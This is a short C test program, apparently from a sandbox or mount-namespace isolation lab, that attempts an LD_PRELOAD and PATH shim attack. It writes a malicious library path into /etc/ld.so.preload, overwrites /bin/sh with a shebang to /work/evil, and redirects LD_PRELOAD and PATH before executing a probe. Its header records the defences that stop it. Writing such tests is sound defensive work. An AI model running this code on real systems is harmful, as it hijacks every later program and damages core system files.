/* SPDX-License-Identifier: MIT */
/*
 * preload.c - leaves shims for whatever runs next
 *
 * Attack: LD_PRELOAD and PATH shims
 * Lab: 02-mount-ns
 * Stopped: programs are static, the environment is made anew, /etc and
 *          /bin of one run are gone in the next
 */
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void put(const char *path, const char *text, size_t len)
{
	int fd = open(path, O_CREAT | O_WRONLY, 0777);

	if (fd >= 0)
		(void)!write(fd, text, len);
}

int main(void)
{
	put("/etc/ld.so.preload", "/work/evil.so\n", 14);
	put("/bin/sh", "#!/work/evil\n", 13);
	put("/work/probe", "#!/work/evil\n", 13);
	(void)setenv("LD_PRELOAD", "/work/evil.so", 1);
	(void)setenv("PATH", "/work", 1);
	execl("/bin/probe", "probe", "hold", (char *)NULL);
	return 0;
}
